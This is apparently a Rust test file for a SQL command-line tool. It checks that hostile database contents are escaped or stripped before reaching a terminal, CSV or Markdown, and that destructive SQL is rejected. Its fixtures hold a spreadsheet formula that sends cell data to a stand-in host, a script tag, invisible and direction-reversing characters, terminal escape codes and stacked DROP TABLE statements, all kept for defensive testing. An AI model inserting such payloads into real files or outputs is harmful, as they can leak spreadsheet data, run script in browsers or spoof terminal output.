//! What is in a database does no harm to who reads it: in a terminal, a spreadsheet or a browser.

use std::fs;

use crate::cli_kit::call;
use crate::support::File;

/// Zero-width characters, marks of direction, tags, and what a terminal obeys.
const HOSTILE: &str = "
    CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT, amount REAL);
    INSERT INTO notes VALUES
        (1, '=HYPERLINK(\"http://x.example/?\"&A1)', -1.5),
        (2, '<script>alert(1)</script> *bold* [a](b)', 2),
        (3, 'pay' || char(8203) || char(8238) || 'ment' || char(917569) || char(917631), 3),
        (4, 'bell' || char(7) || char(27) || '[31m' || char(155), 4),
        (5, '-12.50', 5),
        (6, char(9) || '=1+1', 6);
";

const ALL: &str = "SELECT id, body, amount FROM notes ORDER BY id";

fn is_seen(character: char) -> bool {
    !matches!(character, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
}

#[test]
fn a_table_shows_what_hides() {
    let file = File::new("notes.db", HOSTILE);
    let ask = call(file.folder(), &["--db", "notes.db", "ask", ALL], "");
    ask.is_sound();
    assert!(ask.stdout.chars().all(is_seen), "{ask:?}");
    assert!(ask.stdout.contains("| pay\u{fffd}\u{fffd}ment\u{fffd}\u{fffd} "), "{ask:?}");
    let chat = call(
        file.folder(),
        &["--db", "notes.db", "chat"],
        "how many no\u{200b}tes\u{e0041}?\n/history\n/why\n",
    );
    assert!(chat.stdout.chars().chain(chat.stderr.chars()).all(is_seen), "{chat:?}");
}

#[test]
fn a_spreadsheet_finds_no_formula() {
    let file = File::new("notes.db", HOSTILE);
    let ask = |more: &[&str]| {
        let words = [&["--db", "notes.db", "ask", ALL, "--format", "csv"], more].concat();
        call(file.folder(), &words, "").stdout
    };
    let csv = ask(&[]);
    assert!(
        csv.starts_with("id,body,amount\r\n1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",-1.5\r\n"),
        "{csv}"
    );
    assert!(
        csv.contains("\r\n4,bell\u{fffd}\u{fffd}[31m\u{fffd},4\r\n5,-12.50,5\r\n6,\"'\t=1+1\",6\r\n"),
        "{csv}"
    );
    let raw = ask(&["--raw"]);
    assert!(raw.starts_with("id,body,amount\r\n1,\"=HYPERLINK("), "{raw}");
    assert!(raw.contains("bell\u{7}\u{1b}[31m\u{9b}"), "{raw}");

    let chat = ["--db", "notes.db", "chat"];
    call(file.folder(), &chat, &format!("{ALL}\n/export a.csv\n/export a.jsonl\n"));
    assert_eq!(fs::read_to_string(file.folder().join("a.csv")).unwrap(), csv);
    let lines = fs::read_to_string(file.folder().join("a.jsonl")).unwrap();
    assert!(lines.starts_with("{\"id\":1,\"body\":\"=HYPERLINK("), "{lines}");
    call(file.folder(), &[&chat[..], &["--raw"]].concat(), &format!("{ALL}\n/export raw.csv\n"));
    assert_eq!(fs::read_to_string(file.folder().join("raw.csv")).unwrap(), raw);
}

#[test]
fn a_browser_finds_no_markup() {
    let file = File::new("notes.db", HOSTILE);
    let line = "| 2 | &lt;script&gt;alert(1)&lt;/script&gt; \\*bold\\* \\[a\\](b) | 2 |\n";
    let ask = call(file.folder(), &["--db", "notes.db", "ask", ALL, "--format", "markdown"], "");
    assert!(ask.stdout.contains(line), "{ask:?}");
    call(file.folder(), &["--db", "notes.db", "chat"], &format!("{ALL}\n/export a.md\n"));
    assert!(fs::read_to_string(file.folder().join("a.md")).unwrap().contains(line));
    fs::write(
        file.folder().join("sqlogue.toml"),
        "database = 'notes.db'\nkeep_rows = true\nstore = 'kept.sqlite'\n",
    )
    .unwrap();
    call(file.folder(), &["ask", ALL, "--session", "a"], "");
    let session = call(file.folder(), &["sessions", "export", "a", "--format", "markdown"], "");
    assert!(session.stdout.contains("&lt;script&gt;") && !session.stdout.contains("<script>"), "{session:?}");
}

#[test]
fn sql_that_would_never_run_is_no_lesson() {
    let file = File::new("notes.db", HOSTILE);
    fs::write(file.folder().join("sqlogue.toml"), "database = 'notes.db'\nmemory_folder = 'memory'\n")
        .unwrap();
    for sql in ["DELETE FROM notes", "SELECT 1; DROP TABLE notes", "ATTACH 'x' AS y", "no SQL at all"] {
        for everywhere in [&[][..], &["--everywhere"][..]] {
            let words = [&["lessons", "add"], everywhere, &["query", "all notes", sql]].concat();
            call(file.folder(), &words, "").fails(2, "this SQL would never run");
        }
    }
    assert!(!file.folder().join("memory").exists());
    let added = call(file.folder(), &["lessons", "add", "query", "all notes", "SELECT body FROM notes"], "");
    assert_eq!(added.code, 0, "{added:?}");
    // Another dialect's query is one for every database.
    let added = call(file.folder(), &["lessons", "add", "--everywhere", "query", "all", "TABLE notes"], "");
    assert_eq!(added.code, 0, "{added:?}");
}
